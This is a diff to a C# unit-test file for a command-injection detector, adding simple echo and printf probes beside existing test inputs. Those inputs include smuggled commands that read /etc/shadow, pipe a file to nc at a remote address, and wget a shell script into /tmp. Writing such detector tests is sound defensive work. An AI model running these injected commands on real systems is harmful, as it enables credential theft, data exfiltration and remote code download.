@@ -5,6 +5,9 @@ public class CommandInjectionDetectorTests
     private readonly CommandInjectionDetector _detector = new();
 
     [Theory]
+    [InlineData(";echo 12345")]
+    [InlineData("|echo 1")]
+    [InlineData("x&&printf 31337")]
     [InlineData("8.8.8.8; cat /etc/shadow")]
     [InlineData("report.pdf | nc 203.0.113.9 9001")]
     [InlineData("x && wget http://203.0.113.9/a.sh -O /tmp/a.sh")]
